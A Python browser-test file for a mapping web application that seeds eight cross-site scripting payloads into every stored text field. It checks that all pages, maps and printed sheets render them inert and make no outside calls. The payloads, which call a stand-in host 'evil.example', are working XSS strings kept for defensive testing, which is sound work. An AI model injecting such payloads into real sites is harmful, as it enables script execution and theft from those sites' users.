"""Scripts in every text that the store keeps, on every page and map: shown as text, never run, nobody called.

Each of eight communities has one payload in every text of every row in it, so that each page shows every payload in
every place it shows a text at all.
"""

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page
from sqlalchemy import Engine

from api.visitor import COOKIE
from geo.services.comparing import comparison_from_store
from geo.services.mapping import content_from_store
from geo.storage import plans
from geo.storage.database import session_scope
from geo.territory import codes
from maps import sheets
from maps.comparison import comparison_page
from maps.pages import plan_page
from tests import factories as make
from tests.api.people import token_of
from tests.browser.serving import serving
from tests.conftest import LOCAL_URL
from tests.databases import Databases
from tests.examples import TIMES

pytestmark = pytest.mark.browser

RUN = "window.canary=(window.canary||0)+1;fetch(`http://evil.example/`)"
#: Each ends with a sign of its own, by which it is found again; out of quotes, comments, templates and links.
PAYLOADS = [
    f"<script>{RUN}</script>¶1",
    f"</script></style></title></textarea><script>{RUN}</script>¶2",
    f"<img src=x onerror='{RUN}'>¶3",
    f'"\'><svg onload="{RUN}">¶4',
    f"--><iframe srcdoc='<script>parent.{RUN.removeprefix('window.')}</script>'></iframe>¶5",
    f'<a id=x href="javascript:{RUN}" autofocus onfocus="{RUN}">¶6</a>',
    f"';{RUN};//\\u003cscript\\u003e${{{RUN}}}{{{{ 7*7 }}}}¶7",
    f"<style>@import 'http://evil.example/s.css';</style><body onload='{RUN}'>¶8",
]
COMMUNITIES = [codes.make("community", make.STREET, number) for number in range(1, len(PAYLOADS) + 1)]


#: Payloads that have a page of their own to be tried on; all of them where more examples are asked for.
TRIED = range(0, len(PAYLOADS), 1 if TIMES > 1 else 4)


@pytest.fixture(scope="module")
def engine(databases: Databases) -> Iterator[Engine]:
    with databases.engine(databases.migrated_template()) as engine:
        with session_scope(engine) as session:
            _plant(session)
        yield engine


def _plant(session: Any) -> None:
    make.make_street(session, name=PAYLOADS[0])
    for number, (payload, community) in enumerate(zip(PAYLOADS, COMMUNITIES, strict=True), start=1):
        west = (number - 1) * make.COMMUNITY_DEGREES / make.BUILDING_DEGREES
        make.make_community(session, number, name=payload)
        body = make.make_responsible_body(session, number, name=payload, phone=payload)
        make.make_compound(
            session, community_code=community, name=payload, responsible_body_code=body,
            geometry=make.square((number - 1) * 2, 0, make.COMMUNITY_DEGREES / 2),
        )  # fmt: skip
        make.make_barrier(session, number, name=payload, geometry=make.square(west + 3, 3).exterior)
        for place in (1, 2):
            building = make.make_building(
                session, place, community_code=community, name=payload, address=payload, households=None
            )
            stairwell = make.make_stairwell(session, building, name=payload)
            make.make_household_unit(session, building, 1, place, stairwell_code=None, room=payload, address=payload)
            assert stairwell
        make.make_city_element(
            session, community_code=community, name=payload, address=payload,
            geometry=make.square(west + 9, 9).centroid,
        )  # fmt: skip
        make.make_place(session, number, name=payload, address=payload, building_code=building)
        make.make_grid_staff(session, number, name=payload, phone=payload, grid_code=f"{community}001")
    for department in ("", PAYLOADS[2]):
        for payload, community in zip(PAYLOADS, COMMUNITIES, strict=True):
            frame = make.grid_frame(community).assign(name=payload, reason=payload, households=24)
            rows = [(codes.make("building", community, 1), None, f"{community}001", 24)]
            plan = make.make_plan(
                session, community=community, name=payload, department=department, grids=frame,
                assignment=make.assignment_frame(rows), report={"title": payload}, parameters={"name": payload},
                who=payload,
            )  # fmt: skip
            if not department:
                plans.adopt(session, plan, who=payload, version=1)


@pytest.fixture(scope="module")
def address(engine: Engine) -> Iterator[str]:
    """Address of a running server over the planted street."""
    with serving(engine) as address:
        yield address


class Watched:
    """A browser without a network that counts what ran and who was called since it was told to forget."""

    def __init__(self, context: BrowserContext) -> None:
        self.page: Page = context.new_page()
        self.outside: list[str] = []
        self.dialogs: list[str] = []
        context.route(lambda url: not LOCAL_URL.match(url), lambda route: route.abort("internetdisconnected"))
        context.on("request", lambda request: self._note(request.url))
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))

    def _note(self, url: str) -> None:
        if not LOCAL_URL.match(url):
            self.outside.append(url)

    def forget(self) -> None:
        self.page.goto("about:blank")
        self.outside.clear()
        self.dialogs.clear()

    def executions(self) -> int:
        self.page.wait_for_timeout(150)
        runs = [frame.evaluate("window.canary || 0") for frame in self.page.frames]
        return sum(runs) + len(self.dialogs)

    def assert_quiet(self) -> None:
        assert self.executions() == 0
        assert self.outside == []


@pytest.fixture(scope="module")
def signed_in(browser: Browser, engine: Engine, address: str) -> Iterator[Watched]:
    """A browser that a planner of the street is signed in with."""
    context = browser.new_context(locale="zh-CN", viewport={"width": 1280, "height": 800})
    token = token_of(engine, "planner", ["planner"], [make.STREET])
    context.add_cookies([{"name": COOKIE, "value": token, "url": address}])
    yield Watched(context)
    context.close()


@pytest.fixture
def watched(signed_in: Watched) -> Watched:
    """The same browser, on an empty page."""
    signed_in.forget()
    return signed_in


def payloads_in(text: str) -> set[str]:
    return {payload for payload in PAYLOADS if payload in text}


def use_map(page: Page) -> None:
    """Wait for a map, open every card, and search for every payload."""
    page.locator("html[data-ready]").wait_for(timeout=30_000)
    assert payloads_in(_texts(json.loads(page.locator("#plan-data").text_content() or ""))) == set(PAYLOADS)
    if page.evaluate("typeof wangge.counts") == "function":
        for layer, size in page.evaluate("wangge.counts()").items():
            page.evaluate(f"for (let i = 0; i < {size}; i += 1) wangge.select({json.dumps(layer)}, i)")
    for payload in PAYLOADS:
        page.fill("#search", payload)
        page.locator("#search").press("Enter")


def _texts(value: Any) -> str:
    if isinstance(value, dict):
        return "\n".join([*value, *map(_texts, value.values())])
    if isinstance(value, list):
        return "\n".join(map(_texts, value))
    return value if isinstance(value, str) else ""


def test_the_payloads_run_where_nothing_is_escaped(watched: Watched, tmp_path: Path) -> None:
    """The control: as markup each of them would run, or call somebody."""
    harmless = []
    for number, payload in enumerate(PAYLOADS):
        inside = f"<p>{payload}</p>" if number != 6 else f"<script>const text = '{payload}'\n</script>"
        path = tmp_path / f"{number}.html"
        path.write_text(f"<!DOCTYPE html><meta charset=utf-8><body>{inside}</body>", encoding="utf-8")
        watched.outside.clear()
        watched.page.goto(path.as_uri())
        if watched.executions() == 0 and not watched.outside:
            harmless.append(payload)
    assert harmless == []


def test_first_page(watched: Watched, address: str) -> None:
    watched.page.goto(f"{address}/")
    shown = watched.page.locator("body").inner_text()
    assert payloads_in(shown) == set(PAYLOADS)
    assert watched.page.locator("main script, main img, main iframe, main svg, main style").count() == 0
    watched.assert_quiet()


def test_map_page(watched: Watched, address: str) -> None:
    watched.page.goto(f"{address}/map?scope={make.STREET}")
    use_map(watched.page)
    watched.assert_quiet()


def test_comparison_page(watched: Watched, address: str) -> None:
    watched.page.goto(f"{address}/compare?plans=1,{len(PAYLOADS) + 1}&scope={COMMUNITIES[0]}")
    watched.page.locator("html[data-ready]").wait_for(timeout=30_000)
    watched.page.fill("#search", PAYLOADS[0])
    watched.page.locator("#search").press("Enter")
    watched.assert_quiet()


@pytest.mark.parametrize("number", TRIED)
def test_standalone_comparison_of_each_community(watched: Watched, engine: Engine, tmp_path: Path, number: int) -> None:
    with session_scope(engine) as session:
        both = [str(number + 1), str(number + 1 + len(PAYLOADS))]
        page = comparison_page(comparison_from_store(session, both, COMMUNITIES[number], title=PAYLOADS[number]))
    path = tmp_path / "comparison.html"
    path.write_text(page, encoding="utf-8")
    watched.page.goto(path.as_uri())
    watched.page.locator("html[data-ready]").wait_for(timeout=30_000)
    assert PAYLOADS[number] in _texts(json.loads(watched.page.locator("#plan-data").text_content() or ""))
    watched.assert_quiet()


def test_standalone_map(watched: Watched, engine: Engine, tmp_path: Path) -> None:
    with session_scope(engine) as session:
        page = plan_page(content_from_store(session, make.STREET, title=" ".join(PAYLOADS)))
    path = tmp_path / "map.html"
    path.write_text(page, encoding="utf-8")
    watched.page.goto(path.as_uri())
    use_map(watched.page)
    watched.assert_quiet()


@pytest.mark.parametrize("number", TRIED)
def test_printed_sheet(
    watched: Watched, engine: Engine, tmp_path: Path, number: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What the sheet is printed from, opened in a browser, which runs what a printing program would not."""
    seen: list[str] = []
    build = sheets._page

    def keep(*given: Any) -> str:
        seen.append(build(*given))
        return seen[-1]

    monkeypatch.setattr(sheets, "_page", keep)
    with session_scope(engine) as session:
        content = content_from_store(session, COMMUNITIES[number], title=PAYLOADS[number])
    for focus in (COMMUNITIES[number], f"{COMMUNITIES[number]}001"):
        assert sheets.sheet_pdf(content, focus).startswith(b"%PDF")
        path = tmp_path / "sheet.html"
        path.write_text(seen[-1], encoding="utf-8")
        watched.page.goto(path.as_uri())
        assert watched.page.locator("script, img, iframe, object, embed").count() == 0
        assert f"¶{number + 1}" in (watched.page.locator("body").text_content() or "")
    watched.assert_quiet()


@pytest.mark.parametrize(
    "path",
    [
        "/streets",
        "/communities",
        "/compounds",
        "/buildings",
        f"/buildings/{codes.make('building', COMMUNITIES[3], 1)}",
        "/elements",
        "/barriers",
        "/plans",
        "/plans/1/grids",
        f"/grid-staff?community={COMMUNITIES[3]}",
        f"/published/communities?street={make.STREET}",
        f"/published/communities.csv?street={make.STREET}",
    ],
)
def test_data_opened_in_a_browser(watched: Watched, address: str, path: str) -> None:
    """JSON and CSV are never taken for a page, whatever they begin with."""
    answer = watched.page.request.get(f"{address}{path}")
    assert answer.status == 200
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert re.match("application/(geo\\+)?json|text/csv", answer.headers["content-type"])
    if not path.startswith("/published/communities.csv"):  # a browser saves it
        watched.page.goto(f"{address}{path}")
        watched.assert_quiet()
